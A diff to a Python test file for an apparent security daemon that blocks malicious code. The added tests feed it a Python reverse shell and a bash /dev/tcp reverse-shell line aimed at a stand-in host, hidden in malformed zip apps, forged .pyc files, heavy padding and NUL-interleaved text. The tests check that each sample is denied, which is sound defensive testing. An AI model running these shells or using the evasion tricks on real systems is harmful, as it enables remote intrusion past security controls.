@@ -1,12 +1,20 @@
 """Command lines, variables and files that are made to be misread: what the interpreter runs is what
 is judged. The code is denied by its hash, so none of it may run."""
+import io
 import os
+import py_compile
+import struct
 import sys
+import tempfile
+import zipfile
 
 sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
 import lwtest  # noqa: E402
 from lwtest import DENY_MALICIOUS  # noqa: E402
 
+HERE = os.path.dirname(os.path.abspath(__file__))
+MODEL = os.path.join(os.path.dirname(os.path.dirname(HERE)), "conf/layerwatch.model")
+PYTHON3 = "/usr/bin/python3"
 MARK = "/tmp/mark"
 CODE = {
     "sh": f"echo > {MARK} # evil",
@@ -86,6 +94,100 @@ def row40_scripts_are_looked_for_where_the_interpreter_does(t):
         result = box.run(away + argv, env={"PATH": "/tmp/e:/usr/bin:/bin"})
         t.true(not box.has(MARK), f"{argv}: nothing ran")
         t.contains(result.err, b"not permitted")
+
+
+# What no list knows: the model says what they are. Both leave the mark first.
+SHELL = f"""open('{MARK}', 'w').write('ran')
+import os, pty, socket
+s = socket.socket()
+s.settimeout(1)
+s.connect(("192.0.2.7", 4444))
+for n in range(3):
+    os.dup2(s.fileno(), n)
+pty.spawn("/bin/sh")
+"""
+REVERSE = f"touch {MARK}; timeout 1 bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n"
+
+
+def judged_box(t):
+    box = t.box()
+    t.daemon(box, mode="enforce", rules=[DENY_MALICIOUS], content={"model": MODEL})
+    return box
+
+
+def is_denied(t, box, what, argv, **more):
+    result = box.run(argv, **more)
+    t.true(not box.has(MARK), f"{what}: nothing ran")
+    t.true(result.denied, f"{what}: denied: {result}")
+
+
+def archive(*members):
+    whole = io.BytesIO()
+    with zipfile.ZipFile(whole, "w") as z:
+        for name, content in members:
+            info = zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0))
+            z.writestr(info, content, zipfile.ZIP_DEFLATED)
+    return bytearray(whole.getvalue())
+
+
+def compiled(source, mtime=0, size=0):
+    """As the interpreter would have it beside a source of this time and size."""
+    with tempfile.TemporaryDirectory() as folder:
+        path = os.path.join(folder, "m.py")
+        with open(path, "w", encoding="utf-8") as f:
+            f.write(source)
+        py_compile.compile(path, cfile=path + "c",
+                           invalidation_mode=py_compile.PycInvalidationMode.TIMESTAMP)
+        with open(path + "c", "rb") as f:
+            code = bytearray(f.read())
+    struct.pack_into("<II", code, 8, int(mtime) & 0xffffffff, size)
+    return bytes(code)
+
+
+def odd_archives():
+    """zipimport takes all of these."""
+    plain = archive(("__main__.py", SHELL))
+    entry = plain.rfind(b"PK\1\2")
+    comment, method, encrypted = bytearray(plain), bytearray(plain), bytearray(plain)
+    comment[-2:] = b"\xff\xff"
+    method[entry + 10] = 9
+    encrypted[entry + 8] |= 1
+    return {
+        "a comment that is too long": comment, "another method": method,
+        "encrypted, it says": encrypted, "junk behind": plain + b"junk",
+        "in front of it 9 MiB": b"#" * (9 << 20) + plain,
+        "many members": archive(*[(f"m{n}", "") for n in range(5000)], ("__main__.py", SHELL)),
+        "compiled beside source": archive(("__main__.py", "1\n"), ("__main__.pyc",
+                                                                   compiled(SHELL, 0, 2))),
+    }
+
+
+def row10_odd_zip_applications(t):
+    box = judged_box(t)
+    for what, content in odd_archives().items():
+        box.put("/tmp/app", bytes(content))
+        is_denied(t, box, what, [PYTHON3, "/tmp/app"])
+    # The same file is two programs.
+    box.put("/tmp/both", SHELL.encode() + bytes(archive(("__main__.py", "1\n"))))
+    is_denied(t, box, "text before an archive", [PYTHON3],
+              stdin=SHELL.encode() + b"#" + bytes(archive(("__main__.py", "1\n"))))
+
+
+def row10_compiled_python_behind_padding(t):
+    box = judged_box(t)
+    for mib in (1, 9):
+        box.put("/tmp/m.pyc", compiled(f"x = '{'a' * (mib << 20)}'\n" + SHELL))
+        is_denied(t, box, f"{mib} MiB of padding", [PYTHON3, "/tmp/m.pyc"])
+
+
+def row37_code_between_padding(t):
+    """In the middle of what is kept of a text, and with NULs that a shell leaves out."""
+    box = judged_box(t)
+    filler = ("# " + "x" * 70 + "\n") * 4000
+    box.put("/tmp/padded", filler + SHELL + filler)
+    is_denied(t, box, "padding on both sides", [PYTHON3, "/tmp/padded"])
+    box.put("/tmp/nuls", b"".join(bytes([c, 0]) for c in REVERSE.encode()))
+    is_denied(t, box, "NULs between the letters", ["/bin/dash", "/tmp/nuls"])
 
 
 if __name__ == "__main__":
